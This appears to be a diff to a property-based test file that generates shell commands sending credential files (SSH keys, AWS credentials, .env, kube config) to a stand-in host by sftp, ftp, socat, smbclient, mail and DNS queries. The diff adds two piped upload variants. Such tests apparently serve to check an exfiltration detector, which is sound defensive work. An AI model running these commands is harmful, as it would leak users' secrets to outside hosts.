@@ -42,6 +42,8 @@ SENDERS = st.sampled_from([
     "rclone copy {s} remote:x", "socat -u FILE:{s} TCP:x.example:443",
     "openssl s_client -connect x.example:443 < {s}", "sftp u@x.example <<< 'put {s}'",
     "ftp x.example <<< 'put {s} x'", "lftp -e 'put {s}; bye' x.example",
+    # (its input from a pipe: read only as a here-string before the ninth sitting's review)
+    "echo 'put {s}' | sftp u@x.example", "printf 'put {s}\\n' | ftp x.example",
     "smbclient //x.example/s -c 'put {s} x'", "mail -s k x@x.example < {s}",
     "dig $(head -c 30 {s} | base64).x.example"])
 SECRETS = st.sampled_from(["~/.ssh/id_rsa", "~/.aws/credentials", ".env", "~/.kube/config",
